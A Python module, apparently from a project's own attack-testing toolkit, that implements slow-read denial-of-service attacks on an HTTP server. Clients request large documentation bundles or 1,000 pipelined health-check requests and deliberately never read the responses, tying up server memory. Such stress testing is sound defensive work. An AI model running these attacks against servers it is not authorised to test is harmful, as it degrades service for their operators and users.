"""Clients that do not read their responses."""

import asyncio
import contextlib
import re

from tools.attack.attacks.wire import Target, hold

#: Small, so that the responses stay in the server.
RECEIVE_BUFFER_BYTES = 4_096
BUNDLES_PER_CONNECTION = 10
PIPELINED = 1_000
#: Time after which an unread connection is left for a new one, in seconds.
UNREAD_S = 15.0
#: New connections per second of one process: faster, it would be a flood of downloads.
NEW_PER_S = 50.0
FILE = re.compile(rb"docs/[^\"' ]+\.js")


async def unread_bundle(target: Target, number: int) -> None:
    """Request the largest file of the documentation ten times and read nothing."""
    path = await largest_file(target)
    request = f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode() * BUNDLES_PER_CONNECTION
    await hold(target, number, lambda _: _ignore(target, request), NEW_PER_S)


async def pipelined(target: Target, number: int) -> None:
    """Send 1,000 pipelined requests at once and read nothing."""
    request = b"GET /livez HTTP/1.1\r\nHost: x\r\n\r\n" * PIPELINED
    await hold(target, number, lambda _: _ignore(target, request), NEW_PER_S)


async def largest_file(target: Target) -> str:
    """Return the path of the largest script that the page at /docs contains."""
    paths = {f"/{found.decode()}" for found in FILE.findall(await target.get("/docs"))}
    sizes = {path: len(await target.get(path)) for path in paths}
    return max(sizes, key=sizes.__getitem__, default="/openapi.json")


async def _ignore(target: Target, request: bytes) -> None:
    with (
        await target.connect(RECEIVE_BUFFER_BYTES) as connection,
        contextlib.suppress(TimeoutError),
    ):
        async with asyncio.timeout(UNREAD_S):
            await connection.send(request)
            await asyncio.Event().wait()
